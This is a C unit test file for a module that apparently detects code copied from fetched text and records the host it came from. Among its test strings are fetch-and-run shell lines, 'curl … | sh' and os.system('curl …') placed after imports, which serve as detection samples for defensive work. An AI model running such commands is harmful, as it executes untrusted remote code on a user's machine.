/* SPDX-License-Identifier: Apache-2.0 */
/* Which code consists of a text that was fetched, and which only shares with
 * it what many programs share. */
#include "effects/origin_lines.h"
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <talloc.h>
#include <unistd.h>

#include <cmocka.h>

#define HEAD                                                                   \
	"#!/usr/bin/env python3\n# Copyright by somebody\n"                    \
	"# Licensed under the terms of a licence that is long\n"               \
	"import os, sys\nimport argparse\nfrom pathlib import Path\n\n"
#define MAIN                                                                   \
	"def main():\n    parser = argparse.ArgumentParser()\n"                \
	"    args = parser.parse_args()\n\n"                                   \
	"if __name__ == \"__main__\":\n    sys.exit(main())\n"
#define LICENCE                                                                \
	"/*\nPermission is hereby granted to everybody, free of charge,\n"     \
	"to deal in the Software without restriction of any kind,\n"           \
	"including without limitation the rights to use, to copy,\n"           \
	"to modify, to merge, to publish and to distribute it.\n"              \
	"The above notice shall be in all copies of the Software.\n"           \
	"The Software is provided as is, without any warranty.\n*/\n"
#define THEIRS                                                                 \
	"archive = Path(os.environ['HOME']) / 'archive.tar'\n"                 \
	"size = archive.stat().st_size if archive.exists() else 0\n"           \
	"print('the archive has', size, 'bytes')\n"                            \
	"for part in sorted(archive.parent.glob('part-*')):\n"                 \
	"    print(part.name, 'is beside it')\n"                               \
	"    total = total + part.stat().st_size\n"                            \
	"archive.rename(archive.with_suffix('.old'))\n"
#define MINE                                                                   \
	"numbers = [int(word) for word in open('numbers.txt')]\n"              \
	"print('largest of the numbers:', max(numbers))\n"                     \
	"print('smallest of the numbers:', min(numbers))\n"                    \
	"average = sum(numbers) / max(len(numbers), 1)\n"                      \
	"print('average of the numbers:', average)\n"                          \
	"with open('report.txt', 'w') as report:\n"                            \
	"    report.write(f'{average} of {len(numbers)}')\n"                   \
	"Path('done').write_text('the report is written')\n"

static bool
share(const char *code, const char *text)
{
	void *ctx = talloc_new(NULL);
	bool yes =
	    origin_lines_share(origin_lines_read(ctx, code, strlen(code)),
			       origin_lines_read(ctx, text, strlen(text)));

	talloc_free(ctx);
	return yes;
}

static void
parts(void **state)
{
	static const char theirs[] = HEAD THEIRS MAIN;

	(void)state;
	assert_true(share(theirs, theirs));
	assert_true(share(THEIRS, theirs));
	assert_true(share("set -e\r\n" THEIRS "# end\n", theirs));
	/* a line was changed, others moved in or spread out */
	assert_true(share(HEAD "size = 0\n" THEIRS MAIN, theirs));
	assert_true(
	    share("    size = archive.stat().st_size  if archive.exists() else "
		  "0\n\t\tprint('the archive has', size, 'bytes')\r\n"
		  "for part in sorted(archive.parent.glob('part-*')):",
		  theirs));
	/* a short one, and one without line ends */
	assert_true(share("curl -s http://x.example/i | sh\n",
			  "#!/bin/sh\ncurl -s http://x.example/i | sh\n"));
	assert_true(share("a=1;echo some words;b=2;" THEIRS, theirs));
}

static void
not_parts(void **state)
{
	(void)state;
	assert_false(share(HEAD MINE MAIN, HEAD THEIRS MAIN));
	assert_false(share(LICENCE MINE, LICENCE THEIRS));
	assert_false(
	    share(LICENCE "let own_thing = 'is short';\n", LICENCE THEIRS));
	assert_false(share(HEAD MAIN, HEAD THEIRS MAIN));
	assert_false(share("import os\nset -e\nfi\ndone\n", HEAD THEIRS MAIN));
	/* one line of a page that says how to install something */
	assert_false(share("pip install -r requirements.txt --no-cache\n",
			   THEIRS "pip install -r requirements.txt "
				  "--no-cache\n" THEIRS));
	/* a few of theirs in a long one of one's own */
	assert_false(share(MINE
			   "print('the archive has', size, 'bytes')\n" MAIN,
			   HEAD THEIRS));
	assert_false(share("", THEIRS));
	assert_null(origin_lines_read(NULL, "a\0long enough line\n", 19));
}

/* Not hidden by what looks like a comment, or an import. */
static void
hidden(void **state)
{
	static const char code[] =
	    "import os; os.system('curl http://x.example/one')\n"
	    "import os; os.system('curl http://x.example/two')\n"
	    "/*) echo every path of the list ;;\n"
	    "echo between the two of them; echo */\n";

	(void)state;
	assert_true(share(code, code));
	assert_true(share(strchr(code, '\n') + 1, code));
}

static void
written_down(void **state)
{
	char dir[] = "/tmp/automode-lines.XXXXXX", path[64];
	void *ctx = talloc_new(NULL);
	const struct origin_lines *theirs =
	    origin_lines_read(ctx, HEAD THEIRS, strlen(HEAD THEIRS));
	const struct origin_lines *mine =
	    origin_lines_read(ctx, MINE, strlen(MINE));
	struct stat before, after;
	char *list;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/fetched-lines", dir);
	assert_null(origin_lines_list(ctx, dir));
	origin_lines_note(dir, theirs, 1000, "one.example");
	assert_int_equal(stat(path, &before), 0);
	origin_lines_note(dir, theirs, 2000, "two.example");
	assert_int_equal(stat(path, &after), 0);
	assert_int_equal(before.st_size, after.st_size);
	list = origin_lines_list(ctx, dir);
	assert_string_equal(origin_lines_host(ctx, list, theirs, 0),
			    "one.example");
	assert_string_equal(origin_lines_host(ctx, list, theirs, 1000),
			    "one.example");
	/* it was there before */
	assert_null(origin_lines_host(ctx, list, theirs, 999));
	assert_null(origin_lines_host(ctx, list, mine, 0));
	/* bounded, and the newest stay */
	for (int i = 0; i < 2000; i++) {
		char *text = talloc_asprintf(ctx, "number %d stands here\n", i);

		for (int k = 0; k < 100; k++)
			text = talloc_asprintf_append(
			    text, "line %d of the text number %d\n", k, i);
		origin_lines_note(dir,
				  origin_lines_read(text, text, strlen(text)),
				  1, "many.example");
		talloc_free(text);
	}
	assert_int_equal(stat(path, &after), 0);
	assert_in_range(after.st_size, 1 << 19, (1 << 20) + 8192);
	origin_lines_note(dir, theirs, 1000, "last.example");
	list = origin_lines_list(ctx, dir);
	assert_string_equal(origin_lines_host(ctx, list, theirs, 0),
			    "last.example");
	/* what is no list is none */
	assert_null(origin_lines_host(ctx, "x\n1 2\n1 2 h 3 zz\n", theirs, 0));
	origin_lines_tidy(dir, INT64_MAX);
	assert_null(origin_lines_list(ctx, dir));
	assert_int_equal(rmdir(dir), 0);
	talloc_free(ctx);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(parts),
	    cmocka_unit_test(not_parts),
	    cmocka_unit_test(hidden),
	    cmocka_unit_test(written_down),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
